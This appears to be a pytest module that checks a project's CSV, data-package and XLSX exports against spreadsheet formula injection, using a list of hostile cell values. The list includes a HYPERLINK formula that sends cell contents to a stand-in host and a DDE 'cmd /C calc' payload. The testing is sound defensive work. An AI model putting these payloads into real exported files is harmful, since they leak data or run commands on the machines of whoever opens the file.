"""Text that a spreadsheet would run as a formula is neutralised in every table we write."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from pactwatch.export.cells import RISKY_STARTS, neutral
from pactwatch.model import Agreement
from tests.exports.conftest import export_bytes, export_files

HOSTILE = [
    '=HYPERLINK("http://127.0.0.1/leak?x="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def hostile(full: Agreement) -> Agreement:
    """The filled fixture with formula-like text in every free-text field of each provision."""
    provisions = [
        p.model_copy(update={"object": text, "section": text, "summary": text, "flags": [text]})
        for p, text in zip(full.provisions * len(HOSTILE), HOSTILE, strict=False)
    ]
    return full.model_copy(update={"provisions": provisions, "signed_at": HOSTILE[0]})


def cells(data: bytes) -> list[str]:
    return [v for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for v in row]


def risky_cells(data: bytes) -> list[str]:
    return [value for value in cells(data) if value.startswith(RISKY_STARTS)]


def test_neutral_marks_only_what_a_spreadsheet_would_evaluate() -> None:
    assert [neutral(t) for t in HOSTILE] == ["'" + t for t in HOSTILE]
    for safe in ("Patriot", "a=b", "", " =x", "'quoted", "2024-07-11"):
        assert neutral(safe) == safe


def test_csv_has_no_cell_that_starts_a_formula(hostile: Agreement) -> None:
    data = export_bytes("csv", [hostile])
    assert risky_cells(data) == []
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert [r["object"] for r in rows] == ["'" + t for t in HOSTILE[: len(rows)]]
    assert rows[0]["signed_at"] == "'" + HOSTILE[0]


def test_datapackage_tables_have_no_cell_that_starts_a_formula(hostile: Agreement) -> None:
    tables = {n: d for n, d in export_files("datapackage", [hostile]).items() if n.endswith("csv")}
    assert tables and all(risky_cells(d) == [] for d in tables.values()), tables.keys()
    assert any("'" + HOSTILE[0] in cells(d) for d in tables.values())


def test_xlsx_writes_text_as_strings_never_formulas(hostile: Agreement) -> None:
    workbook = load_workbook(io.BytesIO(export_bytes("xlsx", [hostile])))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith(RISKY_STARTS)]
    assert {c.value for c in texts} >= set(HOSTILE), "the text itself is kept as it was"
    assert all(c.data_type == "s" and c.quotePrefix for c in texts), texts
